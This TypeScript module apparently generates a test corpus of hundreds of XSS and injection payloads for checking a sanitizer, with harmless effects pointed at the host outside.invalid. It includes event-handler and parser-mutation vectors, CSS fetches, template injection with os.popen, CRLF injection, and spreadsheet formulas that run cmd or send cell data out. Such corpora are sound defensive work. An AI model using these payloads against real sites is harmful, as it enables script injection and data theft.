// Hundreds of texts that mean harm, made for this project: every way of writing markup that acts, addresses that act, styles that fetch and
// words that other programs run, multiplied with the ways of hiding them. What one does where it succeeds is always the same: it sets `hacked`
// on the window, asks for a page of `OUTSIDE`, or opens a dialog.

/** A host nobody has (RFC 2606). */
export const OUTSIDE = "outside.invalid";

export interface Payload {
  family: string;
  text: string;
}

const ACT = "hacked=1";
const CALL = "alert(1)";

const SCRIPTS = [
  `<script>${ACT}</script>`,
  `<SCRIPT>${ACT}</SCRIPT>`,
  `<script/x>${ACT}</script>`,
  `<script\n>${ACT}</script\n>`,
  `<script\t type=module>${ACT}</script >`,
  `<script src=//${OUTSIDE}/s.js></script>`,
  `<script src="data:text/javascript,${ACT}"></script>`,
  `<scr<script>ipt>${ACT}</scr</script>ipt>`,
  `<script>${ACT}`,
  `<<script>${ACT}//<</script>`,
  `<script><!--\n${ACT}\n//--></script>`,
  `<script>/*<script>*/${ACT}</script>`,
  `<scr\u0000ipt>${ACT}</scr\u0000ipt>`,
  `<\u0000script>${ACT}</script>`,
  `\ufeff<script>${ACT}</script>`,
  `<script charset=utf-7>+AGg-acked=1</script>`,
  `<script>${ACT}</script`,
  `<noscript><script>${ACT}</script></noscript>`,
  `<svg><script>${ACT}</script></svg>`,
  `<svg><script xlink:href=data:,${ACT} /></svg>`,
  `<math><script>${ACT}</script></math>`,
  `<template><script>${ACT}</script></template>`,
  `<template shadowrootmode=open><img src=x onerror=${ACT}></template>`,
];

/** What fires by itself, or as soon as somebody is there. */
const FIRING: [before: string, event: string, after?: string][] = [
  ["img src=x", "onerror"],
  ["image src=x", "onerror"],
  ["svg", "onload"],
  ["body", "onload"],
  ["body", "onpageshow"],
  ["video src=x", "onerror"],
  ["audio src=x", "onerror"],
  ["video", "onerror", "<source src=x>"],
  ["details open", "ontoggle", "<summary>x</summary>"],
  ["marquee", "onstart", "x</marquee>"],
  ["input autofocus", "onfocus"],
  ["textarea autofocus", "onfocus", "</textarea>"],
  ["select autofocus", "onfocus", "</select>"],
  ["button autofocus", "onfocus", "x</button>"],
  ["xss tabindex=1 autofocus contenteditable", "onfocus", "x</xss>"],
  ["iframe src=about:blank", "onload", "</iframe>"],
  ["object data=x", "onerror", "</object>"],
  ["embed src=x", "onerror"],
  ["style", "onload", "p{}</style>"],
  [`link rel=stylesheet href=//${OUTSIDE}/l.css`, "onerror"],
  ["a style=animation:x tabindex=1 autofocus", "onanimationend", "x</a>"],
  ["p style=position:fixed;inset:0", "onpointerenter", "x</p>"],
  ["svg><animate attributeName=x dur=1s", "onbegin", "</svg>"],
  ["svg><image href=x", "onerror", "</svg>"],
];

/** How an attribute may stand, so that what looks for one way misses another. */
const WRITTEN: ((before: string, event: string, after: string) => string)[] = [
  (before, event, after) => `<${before} ${event}=${ACT}>${after}`,
  (before, event, after) => `<${before} ${event}="${CALL}">${after}`,
  (before, event, after) => `"'><${before}\n${event.toUpperCase()}\n=\n'${ACT}'>${after}`,
  (before, event, after) => `<${before.replaceAll(" ", "/")}/${event}=${ACT}//>${after}`,
  (before, event, after) => `<${before.toUpperCase()}\f${event}\t= "&#104;acked&equals;1"x=">">${after}`,
  (before, event) => `<${before} ${event}=${ACT} x="`,
];

const SCHEMES = [
  `javascript:${ACT}`,
  `JaVaScRiPt:${CALL}`,
  `java\tscript:${ACT}`,
  `java\nscript:${ACT}`,
  `\u0001javascript:${ACT}`,
  `javascript&colon;${ACT}`,
  `&#106;&#x61;vascript:${ACT}`,
  `javascript://x/%0a${ACT}`,
  `vbscript:${CALL}`,
  `data:text/html,<script>${ACT}</script>`,
  `data:text/html;base64,${btoa(`<script>${ACT}</script>`)}`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${ACT}'/>`,
  `//${OUTSIDE}/page`,
  `\\\\${OUTSIDE}\\page`,
];

const CARRIERS: ((address: string) => string)[] = [
  (address) => `<a href="${address}">x</a>`,
  (address) => `<iframe src="${address}"></iframe>`,
  (address) => `<form action="${address}"><button>x</button></form><button formaction="${address}">x</button>`,
  (address) => `<object data="${address}"></object><embed src="${address}">`,
  (address) => `<svg><a xlink:href="${address}" href="${address}"><text>x</text></a><use href="${address}"/></svg>`,
  (address) => `<math href="${address}"><mtext>x</mtext></math><map><area href="${address}"></map>`,
  (address) => `<meta http-equiv=refresh content="0;url=${address}"><base href="${address}">`,
  (address) => `<img src="${address}" srcset="${address} 2x" lowsrc="${address}"><link rel=preload as=image href="${address}">`,
];

/** Read once as one thing and again as another. */
const IMG = `<img src=x onerror=${ACT}>`;
const MUTATING = [
  `<xmp>${IMG}</xmp>`,
  `<noembed>${IMG}</noembed>`,
  `<noframes>${IMG}</noframes>`,
  `<plaintext>${IMG}`,
  `<listing>&lt;img src=x onerror=${ACT}&gt;</listing>`,
  `<xmp><p title="</xmp>${IMG}">`,
  `<noscript><p title="</noscript>${IMG}">`,
  `<style><p title="</style>${IMG}">`,
  `<title><p title="</title>${IMG}">`,
  `<textarea><p title="</textarea>${IMG}">`,
  `<iframe><p title="</iframe>${IMG}">`,
  `<select><style></select>${IMG}</style>`,
  `<select><xmp></select>${IMG}</xmp></select>`,
  `<svg><style><p title="</style>${IMG}"></svg>`,
  `<svg></p><style><a id="</style>${IMG}">`,
  `<svg><![CDATA[><img src=x onerror=${ACT}>]]></svg>`,
  `<svg><foreignObject>${IMG}</foreignObject></svg>`,
  `<svg><desc><xmp>${IMG}</xmp></desc></svg>`,
  `<svg><title><style><img title="</style>${IMG}"></title></svg>`,
  `<svg><set attributeName=href to="javascript:${ACT}"/><a id=x><text>x</text></a></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${ACT}&gt;">`,
  `<math><annotation-xml encoding="text/html">${IMG}</annotation-xml></math>`,
  `<math><mi><xmp>${IMG}</xmp></mi></math>`,
  `<form><math><mtext></form><form><mglyph><style></math>${IMG}</style></mglyph></form>`,
  `<table><td><svg><tr><style>${IMG}</style>`,
  `<table>${IMG}<tr><td>x</table>`,
  `<p><svg><p>${IMG}`,
  `<!-->${IMG}-->`,
  `<!--->${IMG}-->`,
  `<!-- --!>${IMG}-->`,
  `<!--[if gte IE 4]>${IMG}<![endif]-->`,
  `<?xml ?>${IMG}`,
  `<?xml version="1.0"?><?xml-stylesheet href="javascript:${ACT}"?>`,
  `<!doctype html [<!ENTITY x "${IMG}">]>&x;`,
  `</br ${IMG}>`,
  `<//style=x onclick=${ACT}>${IMG}`,
  `<a title="${IMG}" href=x>x</a>`,
  `<a title='${IMG}'>x</a>`,
  `<b ${IMG}</b>`,
  `<img alt="<x" title="/>${IMG}">`,
  `<img """>${IMG}">`,
  `<img src=x\u000bonerror=${ACT}>`,
  `<img/src=x\u00a0onerror=${ACT}>`,
  `<form id=x></form><button form=x formaction="javascript:${ACT}">x</button>`,
];

const STYLES = [
  `background:url(//${OUTSIDE}/c)`,
  `background:URL (//${OUTSIDE}/c)`,
  `background:u\\72l(//${OUTSIDE}/c)`,
  `background:\\55\\52\\4c(//${OUTSIDE}/c)`,
  `background:image-set('//${OUTSIDE}/c' 1x)`,
  `background:-webkit-image-set('//${OUTSIDE}/c' 1x)`,
  `background:image('//${OUTSIDE}/c')`,
  `list-style:src('//${OUTSIDE}/c')`,
  `background:cross-fade('//${OUTSIDE}/c', red)`,
  `background:u&#114;l(//${OUTSIDE}/c)`,
  `background:url&lpar;//${OUTSIDE}/c)`,
  `cursor:u/**/rl(//${OUTSIDE}/c),auto`,
  `position:fixed;inset:0;background:red`,
  `position/**/:fixed;inset:0`,
  `pos\\69tion:fixed;inset:0`,
  `width:expression(${ACT})`,
  `behavior:url(#x)`,
  `-moz-binding:url(//${OUTSIDE}/x#y)`,
  `@import '//${OUTSIDE}/i.css'`,
  `@\\69mport '//${OUTSIDE}/i.css'`,
];
const WORDS_OF_OTHERS = [
  `{{constructor.constructor('${ACT}')()}}`,
  `{{buyer.nickname}}{{order.id}}{{#each x}}`,
  `\${${CALL}}`,
  `#{${CALL}}`,
  `<%= ${CALL} %>`,
  `{%import os%}{{os.popen('x')}}`,
  `[[\${${CALL}}]]`,
  `{{=<% %>=}}<%${ACT}%>`,
  `*{x:expression(${ACT})}`,
  `__proto__`,
  `constructor[prototype]`,
  `toString`,
  `<form id=content><input name=attributes><input name=childNodes>`,
  `<a id=self></a><a id=self name=location href="javascript:${ACT}">x</a>`,
  `<img name=body><img name=cookie>`,
  `';${ACT}//`,
  `";${ACT}//`,
  `\`;${ACT}//`,
  `\\';${ACT}//`,
  `\\u0027;${ACT}//`,
  `*/${ACT}/*`,
  `\u2028${ACT}\u2029`,
  `</title></textarea></style></noscript></template>${IMG}`,
  `]]>${IMG}`,
  `-->${IMG}`,
  `%0d%0aContent-Type:text/html%0d%0a%0d%0a${IMG}`,
  `x\r\nSet-Cookie: hacked=1`,
  `../../assets/index.html`,
  `..\\..\\x.svg`,
  `x.png" onerror="${ACT}`,
];

/** What a spreadsheet would reckon with. */
export const FORMULAS = ["=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠"].flatMap((sign) => [
  `${sign}HYPERLINK("http://${OUTSIDE}/?"&A1,"x")`,
  `${sign}cmd|' /C calc'!A0`,
  `${sign}1+1";"=2`,
]);

const ENCODED = [
  (text: string) => text.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
  (text: string) => text.replaceAll("<", "&amp;lt;").replaceAll(">", "&amp;gt;"),
  (text: string) => text.replaceAll("<", "&#0000060").replaceAll(">", "&#x0003E;"),
  (text: string) => text.replaceAll("<", "\\u003c").replaceAll(">", "\\x3e"),
  (text: string) => text.replaceAll("<", "%3C").replaceAll(">", "%3E"),
  (text: string) => text.replaceAll("<", "%253C").replaceAll(">", "%253E"),
  (text: string) => text.replaceAll("<", "+ADw-").replaceAll(">", "+AD4-"),
  (text: string) => text.replaceAll("<", "\u00c0\u00bc").replaceAll(">", "\u00c0\u00be"),
  (text: string) => text.replaceAll("<", "＜").replaceAll(">", "＞"),
  (text: string) => text.replaceAll("<", "\u02c2").replaceAll(">", "\u02c3"),
  (text: string) => `\u202e${text}\u202c`,
  (text: string) => `\u2066${text}\u2069`,
  (text: string) => [...text].join("\u200b"),
  (text: string) => [...text].join("\u0000"),
];

const LINKS = [
  `https://${OUTSIDE}/"onmouseover="${ACT}`,
  `https://${OUTSIDE}/'onfocus='${ACT}'autofocus='`,
  `http://${OUTSIDE}/<script>${ACT}</script>`,
  `http://${OUTSIDE}/>${IMG}`,
  `https://shop.example@${OUTSIDE}/`,
  `https://${OUTSIDE}\\@shop.example/`,
  `https://\u202e${OUTSIDE}/moc.elpmaxe`,
  `https://xn--e1awd7f.${OUTSIDE}/`,
  `http:javascript:${ACT}`,
  `xhttps://${OUTSIDE}/javascript:${ACT}`,
  `javascript:https://${OUTSIDE}/%0a${ACT}`,
  `https://${OUTSIDE}/javascript:${ACT}`,
  `//${OUTSIDE}/x`,
  `ftp://${OUTSIDE}/x`,
];

const LONG = 4_000;
const DEEP = 400;
const OVERLONG = [
  `${"<".repeat(LONG)}${IMG}`,
  `<${"a".repeat(LONG)} onclick=${ACT}>`,
  `<img ${"x=1 ".repeat(LONG / 4)}src=x onerror=${ACT}>`,
  `${"<b>".repeat(DEEP)}${IMG}`,
  `<a href="${" ".repeat(LONG)}javascript:${ACT}">x</a>`,
  `${"&amp;".repeat(LONG / 5)}${IMG}`,
];

const named = (family: string, texts: string[]): Payload[] => texts.map((text) => ({ family, text }));

export const PAYLOADS: readonly Payload[] = [
  ...named("script", SCRIPTS),
  ...FIRING.flatMap(([before, event, after = ""]) => WRITTEN.map((write) => ({ family: "event", text: write(before, event, after) }))),
  ...CARRIERS.flatMap((carry) => SCHEMES.map((address) => ({ family: "address", text: carry(address) }))),
  ...named("mutation", MUTATING),
  ...STYLES.flatMap((css) => named("style", [`<p style="${css}">x</p>`, `<style>p{${css}}</style><p>x`])),
  ...named("words", WORDS_OF_OTHERS),
  ...named("formula", FORMULAS),
  ...ENCODED.flatMap((encode) =>
    named(
      "encoding",
      [SCRIPTS[0], IMG].map((text = "") => encode(text)),
    ),
  ),
  ...named("link", LINKS),
  ...named("long", OVERLONG),
];
